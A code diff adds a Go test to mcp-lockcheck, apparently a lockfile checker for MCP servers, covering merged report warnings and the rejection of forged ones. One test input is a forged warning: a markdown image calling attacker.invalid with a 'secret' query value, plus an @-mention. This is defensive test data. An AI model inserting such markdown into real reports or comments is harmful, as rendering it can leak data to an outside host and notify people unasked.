@@ -344,3 +344,28 @@ func TestMatrixHostileName(t *testing.T) {
 		t.Errorf("names %q", got)
 	}
 }
+
+// TestReportWarningsFromFiles: a run-level warning is rendered as our own
+// words, so a report read from a file (merge, comment) may carry only the
+// warnings mcp-lockcheck writes; merge keeps each once.
+func TestReportWarningsFromFiles(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name, warning string) string {
+		p := filepath.Join(dir, name)
+		r := `{"lockfileVersion":1,"warnings":[` + jsonString(warning) + `],"servers":[{"name":"` + name + `","status":"ok","phases":[],"findings":[]}],"summary":{"failOn":"error"}}`
+		if err := os.WriteFile(p, []byte(r), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return p
+	}
+	a, b := write("a", basicInCI), write("b", basicInCI)
+	code, stdout, stderr := runCLI(t, dir, nil, "merge", a, b, "--format", "json")
+	if code != 0 || strings.Count(stdout, "does not contain a hostile server") != 1 {
+		t.Fatalf("merge: exit %d, warning kept %d times\n%s%s", code, strings.Count(stdout, "does not contain a hostile server"), stdout, stderr)
+	}
+	forged := write("c", "![x](https://attacker.invalid/?q=secret) @someone")
+	code, _, stderr = runCLI(t, dir, nil, "merge", forged, "--format", "markdown")
+	if code != 2 || !strings.Contains(stderr, "warning 1 is not one mcp-lockcheck writes") {
+		t.Errorf("a forged warning: exit %d\n%s", code, stderr)
+	}
+}
